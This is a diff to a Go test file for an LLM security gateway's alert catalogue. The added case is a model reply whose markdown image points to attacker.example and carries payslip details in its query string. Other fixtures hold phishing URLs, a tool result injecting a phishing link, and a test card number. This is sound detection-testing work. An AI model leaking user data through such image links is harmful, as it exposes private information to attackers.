@@ -122,6 +122,7 @@ func TestCatalogueThroughGateway(t *testing.T) {
 		{want: alert.SensitiveDataInPrompt, dataSe: true, phases: []catPhase{{reqs: []catReq{user("my card is 4111 1111 1111 1111 exp 12/29, why was it declined?")}}}},
 		{want: alert.SensitiveDataAnomaly, novel: true, phases: []catPhase{{reqs: []catReq{withReply(hello, "The customer's card number is 4111 1111 1111 1111.")}}}},
 		{want: alert.PhishingUserPrompt, phases: []catPhase{{reqs: []catReq{user("is https://login-verify-account.example/reset safe?")}}}},
+		{want: alert.DataExfiltration, phases: []catPhase{{reqs: []catReq{withReply(hello, "Done. ![status](https://attacker.example/p.png?d=payslip+of+alice+net+4120+EUR+tax+code+1257L)")}}}},
 		{want: alert.PhishingModelResponse, phases: []catPhase{{reqs: []catReq{withReply(hello, "Please confirm at https://login-verify-account.example/reset today.")}}}},
 		{want: alert.PhishingUnknownSource, phases: []catPhase{{reqs: []catReq{{body: chat("user", "Summarise my e-mail.", "tool", "Your account is locked: https://login-verify-account.example/unlock")}}}}},
 		{want: alert.TorIP, phases: []catPhase{{reqs: []catReq{from("203.0.113.66", hello)}}}},
